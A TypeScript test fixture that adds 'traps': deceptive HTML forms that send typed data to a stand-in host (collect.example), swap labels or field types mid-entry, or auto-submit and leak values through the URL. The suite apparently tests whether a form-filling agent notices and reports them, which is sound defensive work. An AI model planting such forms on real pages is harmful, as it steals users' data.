@@ -1,0 +1,130 @@
+import { fields, honest, type Seen, type Trap } from './trap';
+
+const { name, mail, link } = fields;
+const script = (what: string) => `<script>${what}</script>`;
+
+const elsewhere = (how: string, html: string): Trap => ({
+  name: `a form that sends to another host ${how}`,
+  html: html + mail,
+  told: 'told and not filled',
+  fault({ values, steps, sendsElsewhere = '' }) {
+    if (!/^collect\.example$|^mailto:$|google/.test(sendsElsewhere)) return `told ${sendsElsewhere || 'nothing'}`;
+    if (values['a'] !== '') return `got ${values['a']}`;
+    if (values['b'] !== honest.email) return 'the field outside of that form was not filled';
+    return steps.includes('elsewhere') ? undefined : 'no step says so';
+  },
+});
+
+const sendingElsewhere: readonly Trap[] = [
+  elsewhere('by its action', `<form action="https://collect.example/in">${name}</form>`),
+  elsewhere('without a scheme', `<form action="//collect.example/in">${name}</form>`),
+  elsewhere('by the base of the page', `<base href="https://collect.example/"><form action="in">${name}</form>`),
+  elsewhere(
+    'by a button',
+    `<form action="/ok">${name}<button formaction="https://collect.example/in">送信</button></form>`,
+  ),
+  elsewhere(
+    'by a button outside',
+    `<form id="f">${name}</form><input type="submit" form="f" formaction="//collect.example">`,
+  ),
+  elsewhere(
+    'by the form that a field names',
+    `<form id="f" action="//collect.example"></form>${name.replace('name="a"', 'form="f"')}`,
+  ),
+  elsewhere(
+    'under a field named action',
+    `<form action="//collect.example">${name}<input type="hidden" name="action" value="/ok"></form>`,
+  ),
+  elsewhere(
+    'under a field named getAttribute',
+    `<form action="//collect.example">${name}<input type="hidden" name="getAttribute"></form>`,
+  ),
+  elsewhere('without encryption', `<form action="http://OFFICIAL/">${name}</form>`),
+  elsewhere('by mail', `<form action="mailto:in@collect.example">${name}</form>`),
+];
+
+/** Held from the first tick after the plan, and by the focus that comes before the value. */
+const moments = {
+  'as it is entered': (act: string) => `a.addEventListener('focus', () => { ${act} }, { once: true })`,
+  'at the press': (act: string) => `addEventListener('click', () => { ${act} }, { capture: true, once: true })`,
+};
+
+const exchanges: readonly (readonly [what: string, html: string, act: string])[] = [
+  ['its label', `<p><label id="l" for="a">氏名</label><input id="a"></p>`, "l.textContent='電話番号'"],
+  ['one letter of its label', `<p><label id="l" for="a">氏名</label><input id="a"></p>`, "l.firstChild.data='年齢'"],
+  [
+    'the head of its row',
+    `<table><tr><th id="l">氏名</th><td><input id="a"></td></tr></table>`,
+    "l.textContent='秘密の質問'",
+  ],
+  ['its type', `<p><label>氏名 <input id="a"></label></p>`, "a.type='password'"],
+  ['the action of its form', `<form id="f">${name}</form>`, "f.action='https://collect.example/'"],
+];
+
+const exchanged: readonly Trap[] = exchanges.flatMap(([what, html, act]) =>
+  Object.entries(moments).map(([when, listen]) => ({
+    name: `a field that exchanges ${what} ${when}`,
+    html: html + script(listen(act)),
+    told: 'gets nothing',
+    fault: ({ given }: Seen) => (given.length > 0 ? `got ${given.join(' ')}` : undefined),
+  })),
+);
+
+const stops = (what: string, html: string, why: string, empty: readonly string[], given?: readonly number[]): Trap => ({
+  name: what,
+  html,
+  told: `ends the filling: ${why}, and names what was written`,
+  fault({ stopped, values, asked }) {
+    if (stopped?.why !== why) return `stopped: ${stopped?.why ?? 'no'}`;
+    if (given && stopped.given.join() !== given.join()) return `named ${stopped.given.join()}`;
+    const got = empty.filter((id) => values[id] !== '');
+    if (got.length > 0) return `wrote on into ${got.join()}`;
+    return asked.some((url) => url.includes('/sent') && !what.includes('into a frame')) ? 'sent' : undefined;
+  },
+});
+
+const sending = (how: string, act: string, why: string): Trap =>
+  stops(
+    `a form that sends as it is written, ${how}`,
+    `<iframe name="sink" hidden></iframe><form id="f" action="/sent">${name}${mail}${link}<button id="go" hidden>送信</button></form>${script(`f.addEventListener('input', () => { ${act} });`)}`,
+    why,
+    ['b', 'c'],
+  );
+
+/** Forms on the official host that exchange, send or lead away what is written. */
+export const actingTraps: readonly Trap[] = [
+  ...sendingElsewhere,
+  ...exchanged,
+  {
+    name: 'a field that exchanges itself by its like as it is entered',
+    html: `<p><label>氏名 <input id="a"></label></p>${script(moments['as it is entered']('a.replaceWith(a.cloneNode())'))}`,
+    told: 'gets nothing',
+    fault: ({ given }) => (given.length > 0 ? `got ${given.join(' ')}` : undefined),
+  },
+  stops(
+    'a label that is exchanged once something was written',
+    `${name}<p><label id="l" for="b">メールアドレス</label><input id="b"></p>${link}${script("a.addEventListener('input', () => { l.textContent = '電話番号'; });")}`,
+    'changed',
+    ['b', 'c'],
+  ),
+  stops(
+    'a field that is exchanged once it was written',
+    `${name}${mail}${script("a.addEventListener('input', () => a.replaceWith(a.cloneNode()));")}`,
+    'changed',
+    ['b'],
+  ),
+  {
+    name: 'a cover that comes as a field is entered',
+    html: `<div id="w" style="position:relative">${name}</div>${script(`a.addEventListener('focus', () => {
+      w.insertAdjacentHTML('beforeend', '<div style="position:absolute;inset:-9px;background:#fff"></div>'); });`)}`,
+    told: 'gets nothing',
+    fault: ({ values }) => (values['a'] === '' ? undefined : `got ${values['a']}`),
+  },
+  sending('as a press of its button would', 'f.requestSubmit()', 'submitted'),
+  sending('without an event', 'f.submit()', 'submitted'),
+  sending('into a frame', "f.target='sink';f.submit()", 'submitted'),
+  sending('with data', "f.method='post';f.submit()", 'submitted'),
+  sending('by a press of a hidden button', 'go.click()', 'submitted'),
+  sending('by an address', "history.pushState({}, '', '?q=' + a.value)", 'left'),
+  sending('by a fragment', 'location.hash = a.value', 'left'),
+];
